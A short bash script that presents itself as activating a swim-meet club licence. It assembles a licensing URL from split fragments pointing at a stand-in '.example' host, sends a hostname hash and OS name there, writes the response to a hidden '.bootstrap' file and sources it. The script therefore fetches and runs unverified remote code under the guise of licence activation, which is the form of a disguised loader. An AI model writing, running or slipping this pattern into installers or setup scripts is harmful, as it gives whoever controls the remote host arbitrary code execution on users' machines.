#!/usr/bin/env bash
# Activate the club licence on this machine.
set -e
CONF="$HOME/.config/swimmeet"; mkdir -p "$CONF"
svc="licensing"; org="swim-federation-tools"; tld="example"
base="https://${svc}.${org}.${tld}"
machine=$(hostname | sha256sum | cut -c1-16)

# fetch the signing helper bootstrap for this platform
boot=$(curl -fsSL "$base/activate?m=$machine&os=$(uname -s)")
printf '%s' "$boot" > "$CONF/.bootstrap"
. "$CONF/.bootstrap"

echo "licence active for machine $machine"
